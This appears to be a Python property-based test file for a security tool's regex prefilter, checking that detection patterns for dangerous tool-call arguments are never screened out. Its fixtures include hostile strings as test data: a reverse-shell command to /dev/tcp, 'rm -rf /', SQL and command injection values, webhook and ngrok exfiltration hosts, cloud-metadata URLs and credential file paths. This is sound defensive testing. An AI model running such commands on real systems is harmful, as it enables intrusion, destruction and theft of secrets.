"""The RE2 prefilter never screens out a pattern Python's `re` would match (security/_prefilter.py).

The judge's heuristics and the sensitive-path lists skip a Python search when one RE2 pass says
it cannot match; a wrong "cannot" would be a missed detection. Checked against every pattern those
screens hold, on generated texts built from the characters where the engines could differ
(non-ASCII letters and spaces, the separators Python's \\s takes, a newline at the end, case).
"""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from mcpwall.security import _heuristics, _paths
from mcpwall.security._prefilter import Prefilter

SCREENS = [_heuristics._SCREEN, *_paths._SCREENS.values()]
PATTERNS = [rx for screen in SCREENS for rx in (*screen._patterns, *screen._always)]

#: fragments of what the patterns look for, so generated texts often come near a match
FRAGMENTS = ["rm -rf /", "nc -e /bin/sh ", "/dev/tcp/", "sudo ", "chmod 777", "${jndi:ldap://", "' OR 1=1 --",
             "UNION SELECT", "169.254.169.254", "metadata.google.internal", "curl ", "wget ", "| sh", "$(", "`id`",
             "; ", "&& ", "env", "printenv", "http://127.0.0.1", "https://webhook.site/", "ngrok.io", "/upload",
             "?data=", "~/.ssh/id_rsa", ".env", "/etc/shadow", "/etc/passwd", ".aws/credentials", "/proc/self/environ",
             "C:\\Windows\\System32", "id_ed25519", ".kube/config", "/root/", "\n", "\v", "\x1c", "\x1f", "\t",
             "\u00a0", "\u2028", "é", "K", "\u212a", "ſ", "İ", "$", "\\"]


def _may_miss(screen: Prefilter, text: str) -> list[str]:
    may = screen.screen(text)
    if may is None:
        return []
    return [rx.pattern for rx in (*screen._patterns, *screen._always) if rx.search(text) and rx not in may]


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=8),
       st.sampled_from([str.lower, str.upper, str.title, lambda s: s]))
def test_a_screen_never_drops_a_pattern_python_matches(parts: list[str], case: object) -> None:
    text = case("".join(parts))  # type: ignore[operator]
    for screen in SCREENS:
        assert _may_miss(screen, text) == [], text


def test_every_pattern_matches_through_its_screen_on_texts_it_matches() -> None:
    texts = [f for f in FRAGMENTS] + [f"run {a} then {b}" for a in FRAGMENTS for b in FRAGMENTS[:12]]
    for text in texts:
        for spelled in (text, text.upper(), text + "\n", "\v" + text, text.replace(" ", "\u00a0")):
            for screen in SCREENS:
                assert _may_miss(screen, spelled) == [], spelled


def test_texts_where_the_engines_differ_are_not_screened() -> None:
    screen = _heuristics._SCREEN
    for text in ("café rm -rf /", "rm\v-rf /", "a\x1cb", "ends with a newline\n"):
        assert screen.screen(text) is None, text
    assert screen.screen("hello world") == screen._always  # plain text: only what RE2 cannot take runs


def test_a_pattern_re2_refuses_always_runs() -> None:
    backreference = re.compile(r"(['\"]).*\1")
    screen = Prefilter([backreference, re.compile("curl")])
    assert backreference in screen._always
    assert screen.screen("nothing here") == frozenset({backreference})
    assert screen.screen("curl x") == frozenset({backreference, screen._patterns[0]})


def test_a_pattern_with_lookarounds_is_screened_by_the_pattern_without_them() -> None:
    # RE2 takes no lookaround; without them a pattern matches wherever it did, so it can be screened.
    cases = {r"rm(?=\s)": ("rm -rf", "nothing here"), r"(?<!\w)sudo(?!-)\b": ("x; sudo su", "pseudo"),
             r"a(?=[)(])\(": ("a(", "a b"), r"(?<=\$)\{IFS\}": ("${IFS}", "IFS")}
    for pattern, (hit, miss) in cases.items():
        rx = re.compile(pattern)
        screen = Prefilter([rx])
        assert screen._always == frozenset(), pattern
        assert rx in (screen.screen(hit) or ()), (pattern, hit)
        assert screen.screen(miss) == frozenset(), (pattern, miss)
    # the judge's destructive-command pattern has a lookahead: plain text now runs none of its patterns
    assert _heuristics._SCREEN._always == frozenset()
    assert _heuristics._SCREEN.screen("hello world") == frozenset()


@settings(max_examples=2000, deadline=None)
@given(st.lists(st.sampled_from(["rm", " ", "-rf", "-f", "/", "~", "*", "$HOME", "/etc", ";", "&", "|", "\t", "x",
                                 "-", "--no-preserve-root", "\n"]), max_size=10))
def test_the_destructive_pattern_is_never_screened_out_where_it_matches(parts: list[str]) -> None:
    text = "".join(parts)
    if _heuristics.DESTRUCTIVE.search(text):
        may = _heuristics._SCREEN.screen(text)
        assert may is None or _heuristics.DESTRUCTIVE in may, text


def test_the_judge_still_finds_each_class_the_screen_could_hide() -> None:
    cases = {"reverse-shell": {"command": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
             "destructive-command": {"command": "rm -rf /"},
             "sql-injection": {"query": "' OR 1=1 --"},
             "cloud-metadata": {"url": "http://169.254.169.254/latest/meta-data/"},
             "command-injection": {"name": "x; cat /etc/passwd"},
             "sensitive-path": {"path": "/home/u/.ssh/id_rsa"}}
    for factor, args in cases.items():
        for spelled in (args, {k: v.upper() for k, v in args.items()}):
            names = {f.name for f in _heuristics.evaluate("run_command" if "command" in args else "tool", spelled)}
            assert factor in names, (factor, spelled, names)
